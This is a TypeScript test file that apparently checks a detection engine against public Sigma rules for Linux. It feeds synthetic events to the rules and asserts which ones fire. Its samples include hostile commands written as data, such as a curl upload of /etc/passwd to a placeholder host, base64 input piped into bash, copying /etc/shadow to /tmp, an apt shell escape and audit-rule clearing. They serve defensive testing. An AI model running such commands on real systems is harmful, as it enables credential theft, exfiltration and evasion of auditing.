// Public Sigma rules load unchanged, and each says what it can do. They are no part of the repository: where they lie
// beside it (or PICKET_RULES_CORPUS names their folder) all of them are loaded, and some are asked of real events.
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { loadRules, type RuleFile } from "../../../agent/detect/load.ts";
import type { Sample } from "../../../agent/detect/sample.ts";
import { errorsOf, fired } from "./rig.ts";
import { ran } from "./sigma-rig.ts";

const repository = new URL("../../../", import.meta.url).pathname;
const corpus = join(process.env.PICKET_RULES_CORPUS ?? join(repository, "../shared/rules-corpus"), "sigma");
const files: RuleFile[] = existsSync(corpus)
	? readdirSync(corpus, { recursive: true, encoding: "utf8" })
			.filter((name) => /\.ya?ml$/.test(name))
			.sort()
			.map((path) => ({ path, text: readFileSync(join(corpus, path), "utf8"), origin: "falco" }))
	: [];

it(`the public rules are ${files.length > 0 ? "there" : "not there, so none was loaded"}`, () => {
	// Naming a folder and not having it is a mistake; not having the corpus at all is not.
	if (process.env.PICKET_RULES_CORPUS !== undefined) expect(files.length, corpus).toBeGreaterThan(0);
	expect(loadRules(files).rules).toHaveLength(files.length);
});

describe.runIf(files.length > 0)("the public rules", () => {
	const set = loadRules(files);

	it("are all loaded under their own names, with who wrote them and their ids", () => {
		const written = (key: string) =>
			files.map(({ text }) =>
				new RegExp(`^${key}: *(.*?) *$`, "m").exec(text)?.[1]?.replace(/^(["'])(.*)\1$/, "$2"),
			);
		expect(errorsOf(set)).toEqual([]);
		expect(set.rules.map(({ name }) => name)).toEqual(written("title"));
		expect(set.rules.map(({ id }) => id)).toEqual(written("id"));
		expect(set.rules.map(({ author }) => author)).toEqual(written("author"));
		for (const { name, origin, techniques, tactics, references } of set.rules) {
			expect(origin, name).toBe("sigma");
			expect([...techniques, ...tactics], name).not.toEqual([]);
			expect(Array.isArray(references), name).toBe(true);
		}
	});

	it("are each classified, and what is not whole says why", () => {
		const logs = files.filter(({ path }) => path.startsWith("builtin/")).map(({ path }) => path);
		const by = (status: string) => set.rules.filter((rule) => rule.status === status).map(({ file }) => file);
		expect(by("error")).toEqual([]);
		expect(by("not-evaluable")).toEqual([
			"auditd/service_stop/lnx_auditd_disable_system_firewall.yml",
			...logs,
		]);
		expect(by("degraded")).toEqual([
			"auditd/lnx_auditd_keylogging_with_pam_d.yml",
			"auditd/syscall/lnx_auditd_create_account.yml",
		]);
		expect(by("evaluable")).toHaveLength(86);
		for (const { name, status, reasons } of set.rules)
			expect(reasons.length > 0, name).toBe(status !== "evaluable");
	});

	it("that look at any file are the only ones warned of", () => {
		expect(set.problems.map(({ file, level }) => `${level} ${file}`)).toEqual([
			"warning auditd/path/lnx_auditd_hidden_binary_execution.yml",
			"warning auditd/path/lnx_auditd_systemd_service_creation.yml",
			"warning file_event/file_event_lnx_susp_cron_file_created.yml",
		]);
	});

	const bash = (command: string): Sample => ran(["bash", "-c", command], "/usr/bin/bash");
	const made = (path: string, exe = "/usr/bin/x"): Sample => ({
		process: { exe },
		open: { path, flags: ["O_WRONLY", "O_CREAT"], event_flags: ["created"], syscall: "openat" },
	});
	const read = (path: string): Sample => ({ open: { path, flags: ["O_RDONLY"], syscall: "openat" } });
	it.each<[file: string, yes: readonly Sample[], no: readonly Sample[]]>([
		[
			"process_creation/proc_creation_lnx_apt_shell_execution.yml",
			[ran(["apt", "update", "-o", "APT::Update::Pre-Invoke::=/bin/sh"], "/usr/bin/apt")],
			[
				ran(["apt", "update"], "/usr/bin/apt"),
				ran(["x", "APT::Update::Pre-Invoke::=/bin/sh"], "/usr/bin/aptx"),
			],
		],
		[
			"process_creation/proc_creation_lnx_auditctl_clear_rules.yml",
			[ran(["auditctl", "-D"], "/usr/sbin/auditctl")],
			[ran(["auditctl", "-d"], "/usr/sbin/auditctl"), ran(["auditctl", "-l"], "/usr/sbin/auditctl")],
		],
		[
			"process_creation/proc_creation_lnx_susp_curl_fileupload.yml",
			[ran(["curl", "-F", "f=@/etc/passwd", "http://x.example"], "/usr/bin/curl")],
			[
				ran(["curl", "-f", "http://x.example"], "/usr/bin/curl"),
				ran(["curl", "-F", "f=@x", "http://localhost"], "/usr/bin/curl"),
			],
		],
		[
			"process_creation/proc_creation_lnx_omigod_scx_runasprovider_executescript.yml",
			[
				{
					process: {
						exe: "/bin/sh",
						args: ["/bin/sh", "/etc/opt/microsoft/scx/conf/tmpdir/scx1"],
						cwd: "/var/opt/microsoft/scx/tmp",
						login_uid: "0",
					},
				},
			],
			[
				{
					process: {
						exe: "/bin/sh",
						args: ["/bin/sh", "/etc/opt/microsoft/scx/conf/tmpdir/scx1"],
						cwd: "/var/opt/microsoft/scx",
						login_uid: "0",
					},
				},
			],
		],
		[
			"auditd/execve/lnx_auditd_susp_cmds.yml",
			[ran(["chmod", "777", "x"]), ran(["cp", "/bin/sh", "/tmp/x"])],
			[ran(["chmod", "755", "x"]), ran(["cp", "/bin/shx", "/tmp/x"])],
		],
		[
			"auditd/execve/lnx_auditd_system_shutdown_reboot.yml",
			[ran(["shutdown", "now"]), ran(["init", "6"])],
			[ran(["init", "3"]), made("/shutdown")],
		],
		[
			"auditd/execve/lnx_auditd_binary_padding.yml",
			[ran(["truncate", "-s", "+1M", "x"]), ran(["dd", "if=/dev/zero"])],
			[ran(["truncate", "x"]), ran(["dd", "if=/dev/zero", "of=x"])],
		],
		[
			"auditd/execve/lnx_auditd_coinminer.yml",
			[ran(["x", "-a", "--cpu-priority=5"])],
			[ran(["x", "--cpu"]), ran(["--cpu-priority"])],
		],
		[
			"auditd/path/lnx_auditd_system_info_discovery2.yml",
			[read("/etc/os-release"), read("/sys/class/dmi/id/bios_version")],
			[read("/etc/os-released"), read("/etc/passwd")],
		],
		[
			"auditd/path/lnx_auditd_hidden_binary_execution.yml",
			[read("/home/x/.hidden"), ran(["y"], "/tmp/.x/y")],
			[read("/home/x/.cache/y"), read("/home/x/y")],
		],
		[
			"auditd/path/lnx_auditd_systemd_service_creation.yml",
			[made("/etc/systemd/system/x.service"), made("/home/x/.config/systemd/user/y.service")],
			[read("/etc/systemd/system/x.service"), made("/etc/systemd/x")],
		],
		[
			"auditd/syscall/lnx_auditd_susp_exe_folders.yml",
			[ran(["x"], "/tmp/x"), ran(["x"], "/home/ada/public_html/x")],
			[ran(["x"], "/home/ada/x"), made("/tmp/y", "/tmp/x")],
		],
		[
			"auditd/syscall/lnx_auditd_create_account.yml",
			[ran(["useradd", "x"], "/usr/sbin/useradd")],
			[ran(["usermod", "x"], "/usr/sbin/usermod")],
		],
		[
			"auditd/syscall/lnx_auditd_web_rce.yml",
			[{ process: { exe: "/bin/id", uid: "33" } }],
			[{ process: { exe: "/bin/id", uid: "1000" } }],
		],
		[
			"file_event/file_event_lnx_susp_cron_file_created.yml",
			[made("/etc/cron.d/x"), { rename: { path: "/tmp/x", target: "/etc/crontab" } }],
			[
				made("/etc/cron.daily/dpkg"),
				read("/etc/cron.d/x"),
				{ rename: { path: "/etc/crontab", target: "/tmp/x" } },
			],
		],
		[
			"file_event/file_event_lnx_wget_download_file_in_tmp_dir.yml",
			[made("/tmp/x", "/usr/bin/wget")],
			[made("/tmp/x", "/usr/bin/curl"), made("/home/x", "/usr/bin/wget")],
		],
		[
			"network_connection/net_connection_lnx_susp_malware_callback_port.yml",
			[
				{ connect: { address: "203.0.113.9", port: "4444" } },
				{ connect: { address: "2001:db8::1", port: "888" } },
			],
			[
				{ connect: { address: "203.0.113.9", port: "443" } },
				{ connect: { address: "10.1.2.3", port: "4444" } },
				{ connect: { address: "fe80::1", port: "4444" } },
			],
		],
		[
			"process_creation/proc_creation_lnx_base64_execution.yml",
			[bash("echo aWQ= | base64 -d | bash")],
			[bash("echo aWQ= | base64 -d")],
		],
		[
			"process_creation/proc_creation_lnx_cp_passwd_or_shadow_tmp.yml",
			[ran(["cp", "/etc/shadow", "/tmp/x"], "/usr/bin/cp")],
			[ran(["cp", "/etc/hosts", "/tmp/x"], "/usr/bin/cp")],
		],
		[
			"process_creation/proc_creation_lnx_pnscan_binary_cli_pattern.yml",
			[ran(["pnscan", "-W", "'41 42 43'"])],
			[ran(["pnscan", "-w", "'41 42 43'"])],
		],
	])("%s means what it says", (file, yes, no) => {
		const name = set.rules.find((rule) => rule.file === file)?.name;
		expect(name, file).toBeDefined();
		for (const sample of yes) expect(fired(set, sample), JSON.stringify(sample)).toContain(name);
		for (const sample of no) expect(fired(set, sample), JSON.stringify(sample)).not.toContain(name);
	});
});
